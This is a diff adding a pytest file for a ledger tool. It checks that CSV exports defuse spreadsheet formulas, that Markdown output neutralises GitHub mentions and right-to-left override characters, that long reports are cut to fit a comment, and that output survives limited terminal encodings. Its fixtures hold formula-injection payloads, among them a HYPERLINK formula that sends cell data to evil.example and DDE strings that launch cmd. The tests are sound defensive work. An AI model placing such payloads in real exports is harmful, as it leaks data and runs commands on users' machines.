@@ -1,0 +1,278 @@
+"""Output that other programs act on: CSV opened in a spreadsheet, Markdown posted to GitHub,
+text printed on a terminal that cannot show every character. Data is untrusted; none of it
+may run as a formula, notify anyone, turn into a control character, or crash the command."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+from pathlib import Path
+
+import pytest
+
+from conftest import Sample, run, run_process
+from ledger.diff import FieldChange, LedgerDiff, RecordChange, StatusChange
+from ledger.diff_markdown import diff_markdown
+from ledger.markdown_text import COMMENT_LIMIT, cap
+from ledger.tables import csv_cell
+
+REPO = Path(__file__).resolve().parents[1]
+CLAIM = "claims/cso-torture-complaints.yaml"
+
+# -- CSV: formulas ---------------------------------------------------------------------------
+
+FORMULAS = {
+    "attributed_to": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "unit": "=cmd|' /C calc'!A0",
+    "note": "  @SUM(1+1)*cmd|' /C calc'!A0",
+    "statement": "-2+3+cmd|' /C calc'!A0",
+}
+"""Each a formula a spreadsheet would run (the note after leading spaces, which some skip)."""
+
+
+def defused(raw: str) -> str:
+    return "'" + raw
+
+
+def formula_ledger(sample: Sample) -> None:
+    """The torture-complaints claim with a formula in four fields, and a negative figure."""
+    text = sample.read(CLAIM)
+    text = text.replace(
+        "statement: The memo says the PGR received more than 10,000 torture complaints in "
+        "2012-2016.",
+        f"statement: {json.dumps(FORMULAS['statement'])}",
+    )
+    text = text.replace(
+        "    unit: complaints of torture received by the PGR\n",
+        f"    unit: {json.dumps(FORMULAS['unit'])}\n    note: {json.dumps(FORMULAS['note'])}\n",
+    )
+    text += f"attributed_to: {json.dumps(FORMULAS['attributed_to'])}\n"
+    text += "figures:\n" if "figures:" not in text else ""
+    text = text.replace("figures:\n", "figures:\n  - value: -5\n    unit: net change\n", 1)
+    sample.write(CLAIM, text)
+
+
+CSV_COMMANDS = {
+    "list": (["list", "claims", "--format", "csv"], ("attributed_to", "statement")),
+    "query": (
+        [
+            "query",
+            "--format",
+            "csv",
+            "SELECT c.attributed_to, c.statement, f.unit, f.note, f.value FROM claims c "
+            "JOIN figures f ON f.claim_id = c.id",
+        ],
+        ("attributed_to", "statement", "unit", "note"),
+    ),
+    "figures": (["figures", "--format", "csv"], ("unit", "note")),
+    "export-claims": (
+        ["export", "--format", "csv", "--kind", "claims"],
+        ("attributed_to", "statement"),
+    ),
+    "export-figures": (["export", "--format", "csv", "--kind", "figures"], ("unit", "note")),
+}
+
+
+def is_formula(cell: str) -> bool:
+    """What a spreadsheet would run: a formula start, also after spaces; numbers aside."""
+    if re.fullmatch(r"-?\d+(\.\d+)?", cell):
+        return False
+    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip().startswith(
+        ("=", "+", "-", "@", "\t", "\r")
+    )
+
+
+@pytest.mark.parametrize("command", sorted(CSV_COMMANDS))
+def test_every_csv_output_defuses_formulas_the_same_way(sample_copy: Sample, command: str) -> None:
+    formula_ledger(sample_copy)
+    args, fields = CSV_COMMANDS[command]
+    result = run(["--root", str(sample_copy.root), *args])
+    assert result.exit_code == 0, result.stderr
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    for field in fields:
+        assert defused(FORMULAS[field]) in cells, (field, cells)
+    assert not [cell for cell in cells if is_formula(cell)]
+    if "unit" in fields:  # the figure's value: a number is a number, -5 stays -5
+        assert "-5" in cells
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (-5, "-5"),
+        (2.5, "2.5"),
+        (True, "1"),
+        (None, ""),
+        ("-5", "'-5"),
+        (float("-inf"), "'-inf"),
+        ("\t=1", "'\t=1"),
+        (" \n=1", "' \n=1"),
+        ("a=1", "a=1"),
+        ("\x1b[31m", "\\x1b[31m"),
+    ],
+)
+def test_a_cell_is_defused_by_its_type_not_its_look(value: object, cell: str) -> None:
+    assert csv_cell(value) == cell
+
+
+# -- Markdown: mentions and character references ----------------------------------------------
+
+MENTIONS = "Thanks @octocat and @github/security-team, mail ops@example.org"
+ENTITIES = "&#x202E;evil &#8238;evil &rarr; &amp;"
+HOSTILE_STATEMENT = f"{MENTIONS}; {ENTITIES}"
+
+
+def rendered_text(markdown: str) -> str:
+    """What a reader sees: the Markdown rendered as CommonMark with GFM tables, tags dropped,
+    references decoded, code spans left out (GitHub links no mention inside one)."""
+    import html
+
+    from markdown_it import MarkdownIt
+
+    page = MarkdownIt("commonmark").enable("table").render(markdown)
+    page = re.sub(r"<code>.*?</code>", " ", page, flags=re.DOTALL)
+    return html.unescape(re.sub(r"<[^>]+>", " ", page))
+
+
+def assert_no_mention_and_no_override(markdown: str) -> None:
+    seen = rendered_text(markdown)
+    assert not re.search(r"(?:^|[^A-Za-z0-9_`])@[A-Za-z0-9]", seen), seen  # GitHub's mention
+    assert "\u202e" not in seen
+    assert "&#x202E;evil &#8238;evil &rarr; &amp;" in seen  # shown as typed
+    assert "@\u200boctocat" in seen and "@\u200bgithub/security-team" in seen
+
+
+@pytest.fixture
+def hostile_repo(tmp_path: Path) -> Sample:
+    """The sample ledger committed in a git repository, then a claim's statement made hostile
+    in the working tree."""
+    from conftest import SAMPLE, git
+
+    root = tmp_path / "repo"
+    shutil.copytree(SAMPLE, root)
+    git(root, "init", "-q")
+    git(root, "add", "-A")
+    git(root, "commit", "-q", "-m", "the sample")
+    sample = Sample(root)
+    sample.edit(
+        CLAIM,
+        "statement: The memo says the PGR received more than 10,000 torture complaints in "
+        "2012-2016.",
+        f"statement: {json.dumps(HOSTILE_STATEMENT)}",
+    )
+    return sample
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["diff", "--format", "markdown"],
+        ["status", "requirement-2", "--format", "markdown"],
+        ["status", "torture-prosecutions", "--format", "markdown"],
+        ["export", "--format", "markdown"],
+    ],
+    ids=["diff", "status-requirement", "status-case", "export"],
+)
+def test_markdown_notifies_no_one_and_shows_references_as_typed(
+    hostile_repo: Sample, args: list[str]
+) -> None:
+    result = run(["--root", str(hostile_repo.root), *args])
+    assert result.exit_code == 0, result.stderr
+    assert_no_mention_and_no_override(result.stdout)
+
+
+# -- Markdown: GitHub's limit on a comment -------------------------------------------------------
+
+
+def big_diff(rows: int) -> LedgerDiff:
+    statuses = tuple(
+        StatusChange(f"case-{n:05}", "case", "requirement-1", "T", "met", "not-met", "S4", "S2",
+                     (f"claim-{n:05}",))
+        for n in range(rows)
+    )  # fmt: skip
+    records = tuple(
+        RecordChange(f"claim-{n:05}", "claim", "changed", "p", (FieldChange("notes", "a", "b"),))
+        for n in range(rows)
+    )
+    return LedgerDiff("origin/main", "HEAD", records, statuses)
+
+
+def test_a_large_diff_is_cut_to_fit_a_comment_at_a_line_with_a_note() -> None:
+    whole = diff_markdown(big_diff(3000), limit=0)
+    assert len(whole) > 65_536
+    cut = diff_markdown(big_diff(3000))
+    assert len(cut) <= COMMENT_LIMIT < 65_536
+    body, note = cut.rsplit("\n\n", 1)
+    assert whole.startswith(body + "\n")  # whole lines, nothing changed before the cut
+    table_rows = [line for line in body.splitlines() if line.startswith("|")]
+    assert len(table_rows) > 2 and all(line.endswith("|") for line in table_rows)
+    left_out = whole[len(body) + 1 :]
+    assert note == (
+        f"**Cut short:** {len(left_out):,} more characters ({left_out.count(chr(10)):,} lines) "
+        "are not shown, to stay within GitHub's limit on a comment. To see everything, run "
+        "`ledger diff origin/main HEAD` in a checkout (`--format markdown --max-chars 0` gives "
+        "this report uncut).\n"
+    )
+    assert rendered_text(cut).count("Cut short") == 1  # after the table, not a row of it
+
+
+def test_a_table_is_never_left_with_a_header_and_no_rows() -> None:
+    text = "# t\n\n" + "x" * 50 + "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
+    for limit in range(len(text) - 1, 0, -1):
+        cut = cap(text, limit, "ask")
+        lines = cut.split("\n\n**Cut short:**")[0].splitlines()
+        assert lines[-1:] != ["|---|---|"] and lines[-1:] != ["| a | b |"], (limit, cut)
+
+
+def test_one_huge_field_is_left_out_whole(hostile_repo: Sample) -> None:
+    hostile_repo.write(CLAIM, hostile_repo.read(CLAIM) + f"notes: {'word ' * 20_000}\n")
+    result = run(["--root", str(hostile_repo.root), "diff", "--format", "markdown"])
+    assert result.exit_code == 0, result.stderr
+    assert len(result.stdout) <= COMMENT_LIMIT
+    assert "word word" not in result.stdout
+    assert "- changed claim `cso-torture-complaints`" in result.stdout
+    assert "`ledger diff HEAD` in a checkout" in result.stdout
+    uncut = run(["--root", str(hostile_repo.root), "diff", "-f", "markdown", "--max-chars", "0"])
+    assert "word word" in uncut.stdout and "Cut short" not in uncut.stdout
+
+
+def test_the_command_line_default_is_the_librarys() -> None:
+    from ledger.cli import diff_cmd
+
+    assert diff_cmd.COMMENT_LIMIT == COMMENT_LIMIT
+
+
+# -- any terminal encoding -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("encoding", ["latin-1", "ascii"])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["status", "requirement-3"],
+        ["status"],
+        ["search", "Nochixtlán"],
+        ["status", "requirement-3", "--format", "markdown"],
+    ],
+    ids=["status-requirement", "overview", "search", "markdown"],
+)
+def test_a_terminal_that_cannot_show_every_character(encoding: str, args: list[str]) -> None:
+    """The repository's data has typographic quotes and accents; the output has box lines
+    and bars: what the terminal cannot show is replaced, and the command succeeds."""
+    done = run_process(args, cwd=REPO, env={"PYTHONIOENCODING": encoding})
+    assert done.returncode == 0, done.stderr
+    assert done.stderr == ""
+    assert "?" in done.stdout  # the typographic quotes, replaced
+
+
+@pytest.mark.parametrize("encoding", ["latin-1", "ascii"])
+def test_an_error_on_such_a_terminal_is_one_line(encoding: str) -> None:
+    done = run_process(["status", "no-such-record-\u201cx\u201d"], cwd=REPO,
+                       env={"PYTHONIOENCODING": encoding})  # fmt: skip
+    assert done.returncode == 2
+    assert done.stdout == ""
+    assert len(done.stderr.splitlines()) == 1, done.stderr
+    assert done.stderr.startswith("ledger: ") and "\\u201cx\\u201d" in done.stderr
